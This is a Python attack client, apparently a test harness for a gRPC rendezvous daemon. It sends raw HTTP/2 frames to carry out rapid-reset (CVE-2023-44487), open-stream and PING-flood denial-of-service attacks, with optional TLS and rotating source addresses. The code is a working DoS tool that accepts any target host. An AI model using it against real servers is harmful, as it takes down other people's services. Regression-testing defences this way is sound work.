#!/usr/bin/env python3
"""HTTP/2 abuse against a gRPC server, from raw frames (stdlib only; no HTTP/2 library needed).

Attacks, each over --connections connections for --seconds seconds:
  rapid_reset  HEADERS for a gRPC method, then RST_STREAM(CANCEL) at once, in a loop, without a
               token (CVE-2023-44487, the attack gRPC before 1.57 has no defence against)
  open_streams HEADERS that are never ended nor reset: as many open streams as the server allows
  ping_flood   PING frames in a loop

The attacker answers the server's SETTINGS and PINGs as a real client would, so that the server
cannot tell it from one by its manners. Prints one JSON line: frames sent, connections opened,
and how connections ended (closed by the server, GOAWAY received). Used by the regression tests
(tests/integration/test_rdzv_http2_abuse.py, test_rdzv_tls_abuse.py) and by the benchmark
(bench/rdzv_abuse.py).

With --tls_ca the attacker speaks TLS (a daemon started with --tls_cert): each connection makes a
valid handshake (the server verified against that CA and --host, ALPN h2, a client certificate
with --tls_cert/--tls_key), then the same frames inside the encrypted connection; a connection
counts in "connections" once its handshake is done, and a failed handshake in "connect_errors".
Without it, nothing changes: the plaintext attacker is the one the tests and the benchmark always used.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8
TIMEOUT_S = 5  # a connection's socket timeout: connect, a TLS handshake, a send, a wait for bytes


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name, value):
    # HPACK literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2).
    def string(s):
        data = s.encode()
        assert len(data) < 127
        return bytes([len(data)]) + data
    return b"\x00" + string(name) + string(value)


def grpc_headers(path, scheme="http"):
    return b"".join(_literal(n, v) for n, v in (
        (":method", "POST"), (":scheme", scheme), (":path", path), (":authority", "ddprun"),
        ("content-type", "application/grpc"), ("te", "trailers")))


def tls_context(ca, cert=None, key=None):
    """A client context that verifies the server against `ca` (and the name it is reached by) and
    offers only h2, as gRPC's clients do (the daemon refuses a client without ALPN h2)."""
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    if cert:
        context.load_cert_chain(cert, key)
    return context


class Connection:
    """One HTTP/2 connection; a thread reads what the server sends and answers it.

    Plaintext: a blocking socket with a TIMEOUT_S timeout, read by the reader thread and written
    by the attacker's (sendall under self.lock) at the same time. TLS (`tls`: an ssl.SSLContext):
    OpenSSL must never see two threads on one connection, so the socket is non-blocking after the
    handshake and every read or write of it takes self.io_lock, released while waiting in select();
    the waits keep the plaintext timeouts (TIMEOUT_S without a byte to read, TIMEOUT_S for a whole
    send)."""

    def __init__(self, host, port, stats, source=None, tls=None):
        self.sock = socket.create_connection((host, port), timeout=TIMEOUT_S,
                                             source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.tls = tls is not None
        if self.tls:
            # The handshake, under the socket's timeout; on failure wrap_socket closes the socket.
            self.sock = tls.wrap_socket(self.sock, server_hostname=host)
            alpn = self.sock.selected_alpn_protocol()
            if alpn != "h2":
                self.sock.close()
                raise ssl.SSLError("the server did not select ALPN h2 (%r)" % alpn)
            self.sock.setblocking(False)
            self.io_lock = threading.Lock()
        self.lock = threading.Lock()
        self.stats = stats
        self.closed = False
        self.next_stream = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read, daemon=True).start()

    def send(self, data):
        with self.lock:
            if self.tls:
                self._send_tls(data)
            else:
                self.sock.sendall(data)

    def close(self):
        if self.tls:
            with self.io_lock:  # not under a read or a write of the other thread
                self.sock.close()
        else:
            self.sock.close()

    def _wait(self, readable, deadline):
        """Waits (without io_lock) until the socket is readable or writable, or the deadline."""
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            raise socket.timeout("timed out")
        try:
            select.select([self.sock] if readable else [], [] if readable else [self.sock], [], min(remaining, 0.5))
        except ValueError:  # closed by the attacker's thread meanwhile (fileno() is -1)
            raise OSError("the connection was closed")

    def _send_tls(self, data):
        # Without SSL_MODE_ENABLE_PARTIAL_WRITE (Python does not set it), SSL_write sends all of
        # `data` or raises SSLWantWriteError, and must then be called again with the same bytes.
        deadline = time.monotonic() + TIMEOUT_S
        while True:
            with self.io_lock:
                try:
                    self.sock.send(data)
                    return
                except ssl.SSLWantWriteError:
                    want_read = False
                except ssl.SSLWantReadError:  # not in TLS 1.3 (no renegotiation); the reader reads
                    want_read = True
            if want_read:
                if time.monotonic() > deadline:
                    raise socket.timeout("timed out")
                time.sleep(0.005)
            else:
                self._wait(False, deadline)

    def _recv(self):
        if not self.tls:
            return self.sock.recv(65536)
        deadline = time.monotonic() + TIMEOUT_S
        while True:
            with self.io_lock:
                try:
                    chunk = self.sock.recv(65536)
                    # Bytes OpenSSL has decrypted already are not in the kernel's buffer, so
                    # select() would not see them: take them now.
                    while chunk and self.sock.pending():
                        chunk += self.sock.recv(65536)
                    return chunk
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
            self._wait(True, deadline)

    def _read(self):
        buffer = b""
        try:
            while True:
                chunk = self._recv()
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    payload = buffer[9:9 + length]
                    buffer = buffer[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        self.stats["goaway"] += 1
        except OSError:
            pass
        self.closed = True
        self.stats["closed_by_server"] += 1

    def batch(self, attack, block, count):
        out = []
        for _ in range(count):
            if attack == "ping_flood":
                out.append(frame(PING, 0, 0, b"\0" * 8))
                continue
            stream = self.next_stream
            self.next_stream += 2
            out.append(frame(HEADERS, END_HEADERS, stream, block))
            if attack == "rapid_reset":
                out.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
        return b"".join(out)


def run(host, port, attack, connections, seconds, path, source=None, spread=False, per_connection=0, batch=200,
        tls=None):
    stats = {"attack": attack, "frames": 0, "connections": 0, "connect_errors": 0, "closed_by_server": 0,
             "goaway": 0, "send_errors": 0}
    if tls is not None:
        stats["tls"] = True
    block = grpc_headers(path, "https" if tls is not None else "http")
    deadline = time.monotonic() + seconds
    lock = threading.Lock()

    counter = [0]

    def next_source():
        if not spread:
            return source
        with lock:
            counter[0] += 1
            n = counter[0]
        return "127.%d.%d.%d" % (1 + (n >> 16) % 250, (n >> 8) & 255, 1 + (n & 255) % 254)

    def attacker():
        conn = None
        while time.monotonic() < deadline:
            if conn is None or conn.closed:
                try:
                    conn = Connection(host, port, stats, next_source(), tls)
                    with lock:
                        stats["connections"] += 1
                except OSError:
                    with lock:
                        stats["connect_errors"] += 1
                    time.sleep(0.05)
                    continue
            if attack == "open_streams" and conn.next_stream > 2 * 100000:
                time.sleep(0.05)
                continue
            try:
                n = min(batch, per_connection - conn.next_stream // 2) if per_connection else batch
                conn.send(conn.batch(attack, block, n))
                with lock:
                    stats["frames"] += n * (2 if attack == "rapid_reset" else 1)
                if per_connection and conn.next_stream // 2 >= per_connection:
                    conn.close()  # and start over on a new connection
                    conn.closed = True
            except OSError:
                with lock:
                    stats["send_errors"] += 1
                conn.closed = True
        if conn is not None:
            conn.close()

    threads = [threading.Thread(target=attacker, daemon=True) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(seconds + 10)
    return stats


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--attack", choices=["rapid_reset", "open_streams", "ping_flood"], default="rapid_reset")
    p.add_argument("--connections", type=int, default=8)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--source", help="local address to connect from (127.0.0.2: another loopback address)")
    p.add_argument("--spread", action="store_true",
                   help="a new loopback source address (127.1.0.1, 127.1.0.2...) for every connection: "
                        "an attacker with many addresses, whom no per-address penalty stops")
    p.add_argument("--per_connection", type=int, default=0,
                   help="streams to open on a connection before starting a new one (0: no limit)")
    p.add_argument("--path", default="/ddprun.v1.Rendezvous/Session")
    p.add_argument("--tls_ca", help="speak TLS, and verify the server's certificate against this CA (PEM); "
                                    "it must name --host")
    p.add_argument("--tls_cert", help="with --tls_ca: a client certificate (PEM), for a daemon with --tls_client_ca")
    p.add_argument("--tls_key", help="the key of --tls_cert (PEM)")
    a = p.parse_args()
    if not 0 < a.seconds <= 3600 or not 0 < a.connections <= 1000:
        sys.exit("http2_attack: --seconds must be in (0, 3600] and --connections in [1, 1000]")
    if (a.tls_cert or a.tls_key) and not (a.tls_ca and a.tls_cert and a.tls_key):
        sys.exit("http2_attack: --tls_cert and --tls_key go together, and with --tls_ca")
    tls = None
    if a.tls_ca:
        try:
            tls = tls_context(a.tls_ca, a.tls_cert, a.tls_key)
        except (OSError, ValueError) as e:
            sys.exit("http2_attack: cannot load the TLS files: %s" % e)
    print(json.dumps(run(a.host, a.port, a.attack, a.connections, a.seconds, a.path, a.source, a.spread, a.per_connection,
                         tls=tls)), flush=True)


if __name__ == "__main__":
    main()
